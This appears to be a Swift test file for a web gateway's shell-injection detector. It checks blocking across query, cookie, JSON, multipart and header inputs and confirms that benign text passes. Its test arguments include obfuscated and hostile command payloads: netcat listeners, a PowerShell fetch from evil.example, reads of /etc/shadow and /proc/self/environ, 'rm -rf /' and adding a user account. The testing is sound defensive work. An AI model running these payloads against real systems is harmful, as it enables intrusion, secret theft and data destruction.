import GatewayTesting
import Testing
@testable import InjectionDetection

/// Blocked as a form field of a multipart body.
func blocksMultipart(_ value: String, _ tester: FilterTester = defaultTester) -> Bool {
    let body = ["--B", #"Content-Disposition: form-data; name="f""#, "", value, "--B--", ""].joined(separator: "\r\n")
    return judge(tester, "POST", "/upload", headers: [("Content-Type", "multipart/form-data; boundary=B")], body: body).blocked
}

/// Blocked as a cookie value (percent-encoded as a client would).
func blocksCookie(_ value: String, _ tester: FilterTester = defaultTester) -> Bool {
    judge(tester, "GET", "/", headers: [("Cookie", "a=1; pref=" + formEncode(value).replacingOccurrences(of: "+", with: "%20"))]).blocked
}

/// Blocked as a query value encoded twice (`%2527`).
func blocksDoubleEncoded(_ value: String, _ tester: FilterTester = defaultTester) -> Bool {
    judge(tester, "GET", "/search?q=" + formEncode(value).replacingOccurrences(of: "%", with: "%25")).blocked
}

/// Blocked wherever it arrives: query, double-encoded query, JSON body, multipart field, cookie.
func blocksEverywhere(_ value: String) -> [String] {
    var missed: [String] = []
    if !blocksQuery(value) { missed.append("query") }
    if !blocksDoubleEncoded(value) { missed.append("double-encoded") }
    if !blocksJSON(value) { missed.append("json") }
    if !blocksMultipart(value) { missed.append("multipart") }
    if !blocksCookie(value) { missed.append("cookie") }
    return missed
}

/// Passes wherever it arrives (the double-encoded form adds a low finding of its own, so it is not asked).
func passesEverywhere(_ value: String) -> [String] {
    var blocked: [String] = []
    if blocksQuery(value) { blocked.append("query") }
    if blocksJSON(value) { blocked.append("json") }
    if blocksMultipart(value) { blocked.append("multipart") }
    if blocksCookie(value) { blocked.append("cookie") }
    return blocked
}

struct ShellDetectorTests {
    @Test("command names split by quotes, backslashes, empty and unset expansions, brace alternatives", arguments: [
        "w'h'o'am'i", "WH\"O\"AMI", "who$@ami", "wh\\oami -a", "ca$()t /etc/hosts", "un${x}ame -a", "p'i'ng -c 1 10.0.0.1",
        "x;c{a,u}t /etc/hosts", "n$u\\c -lvp 4444", "upt$_ime", "who<()ami", "who\\\nami", "x;ca\\\nt /etc/hosts",
    ])
    func obfuscatedCommands(_ payload: String) {
        #expect(rules(inValue: payload).contains("rce.obfuscated-command"), "\(payload) -> \(rules(inValue: payload))")
        #expect(blocksEverywhere(payload).isEmpty, "\(payload) missed in \(blocksEverywhere(payload))")
    }

    @Test("history, directory-stack, arithmetic and parameter expansions", arguments: [
        "~+", "~-", "~-2", "x;~+3/x", "!1", "!-2", "; !3", "$((7*7))", "$((1))z -h", "${cmd}", "${IFS_x}",
    ])
    func expansions(_ payload: String) {
        #expect(rules(inValue: payload).contains("rce.expansion"), "\(payload) -> \(rules(inValue: payload))")
        #expect(blocksEverywhere(payload).isEmpty, "\(payload) missed in \(blocksEverywhere(payload))")
    }

    @Test("alias definitions, SQLite dot commands, Windows switches, new tools and prefixes", arguments: [
        "alias ll='rm -rf /'", "ALIAS x=\"curl evil.example\"", "alias -p q=id", "alias ..='cd ..'",
        "1;.system id", "1;.SHELL nc 10.0.0.1 4444", "x\n.import /etc/passwd t", "1;\\n.databases", "';.\"sh\" whoami",
        "a&ipconfig/all", "x|cmd/c whoami", "b&bcdedit/v x",
        ";flock -x /tmp/l whoami", ";iwr http://evil.example/a.ps1", "|COMM /etc/passwd /etc/group", ";date --file /etc/shadow",
        "; top -b", "cpulimit -l 50 -f id", "env --version", "BusyBox --list", "npm install evil-pkg", "gem install x",
        "cat /var/log/auth.log", "tail /proc/self/environ", "shutdown\n", "chef-client\n", "bin/visudo",
        ";df -h", "|SHA256SUM /etc/shadow", "a;sleep 5", "x&&sleep 10", "&net user x p /add", "; gci env:",
        "& wmic process list", "| reg query HKLM\\Software", ";systeminfo", "1|ver", "x|id", "a|id|base64", "x & id", "127.0.0.1 & ls", "a; who",
    ])
    func commandLines(_ payload: String) {
        #expect(blocksEverywhere(payload).isEmpty, "\(payload) -> \(rules(inValue: payload)) missed in \(blocksEverywhere(payload))")
    }

    @Test("command lines in a Referer's query and a User-Agent")
    func headers() {
        let t = defaultTester
        #expect(judge(t, "GET", "/", headers: [("Referer", "https://example.com/?args=perf --version")]).blocked)
        #expect(judge(t, "GET", "/", headers: [("Referer", "https://example.com/p?a=1&b=env -i sh")]).blocked)
        #expect(judge(t, "GET", "/", headers: [("User-Agent", "env --version")]).blocked)
        #expect(judge(t, "GET", "/", headers: [("X-Filename", "x;c$@at /etc/hosts")]).blocked)
        // Tool user agents and ordinary referers pass.
        for ua in ["curl/7.81.0", "Wget/1.21", "wget", "python-requests/2.31.0", "Go-http-client/1.1", "node-fetch/1.0"] {
            #expect(!judge(t, "GET", "/", headers: [("User-Agent", ua)]).blocked, "\(ua)")
        }
        for referer in ["https://example.com/?args=settings", "https://example.com/?q=time+warner&page=2",
                        "https://example.com/#:~:text=generic%20attack"] {
            #expect(!judge(t, "GET", "/", headers: [("Referer", referer)]).blocked, "\(referer)")
        }
    }

    @Test("prose, names and data near the new rules pass", arguments: [
        "I'd like a cat", "O'Keefe's", "who's there?", "it''s fine", "cost US$5 each", "~5 minutes", "~0", "~z", "~+z",
        "!!!", "Hello!1", "Top 10!", "alias is not = to your name", "known by the alias \"pineapple\" online",
        ".NET developer; .net core", "see the notes; .tables are below", "base64", "lastlog", "regedit ", "tee shirt",
        "ping 127.0.0.1", "find x for y", "time warner", "pip", "ls", "more than that; top of the class",
        "mysql/mariadb", "TCP/IP", "I/O", "and/or", "read-only", "e.g. (fig. 1)", "${}", "costs $((", "Mr. Cat; Mrs. Who",
        "data:image/png;base64,iVBORw0KGgo=", "3f2504e0-4f89-11d3-9a0c-0305e82c3301", "user@example.com",
        "# Heading\n\nSome *markdown* with `code` and [a link](https://example.com).",
        "name|id|email", "date|sort|users", "the best; top 10", "net income", "type 2 diabetes", "sleep 8 hours",
        "free shipping; sort by price", "Sales & Service", "I love PHP & MySQL", "Art & History", "Bread & more", "Home | History", "News | Last", "line one\\\nline two", "php-guide.pdf", "docker-compose", "node-fetch",
    ])
    func benign(_ text: String) {
        #expect(passesEverywhere(text).isEmpty, "\(text) -> \(rules(inValue: text)) blocked in \(passesEverywhere(text))")
    }

    @Test("a lone command name weighs less than a command line")
    func loneNames() {
        #expect(rules(inValue: "lastlog") == ["rce.command-value"])
        #expect(rules(inValue: "lastlog -u root").contains("rce.command"))
        #expect(rules(inValue: "ansible-console\n").contains("rce.command"))
        #expect(!blocksJSON("python-dateutil", key: "package"))
    }
}
